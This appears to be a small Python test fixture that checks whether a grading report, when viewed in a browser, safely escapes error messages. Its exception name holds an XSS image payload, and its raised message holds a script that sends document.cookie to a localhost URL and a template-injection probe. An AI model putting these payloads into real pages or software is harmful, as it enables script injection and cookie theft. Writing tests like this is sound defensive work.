# tries: HTML and scripts in a message, for whoever reads the report in a browser
# base: numpy
# expect: my_dense error 0


class ScriptError(Exception):
    pass


ScriptError.__name__ = ScriptError.__qualname__ = "<img src=x onerror=alert(1)>"


def my_dense(a_in, W, b, g):
    raise ScriptError("</td></table><script>fetch('http://localhost/' + document.cookie)</script>{{7*7}}<!-- ")
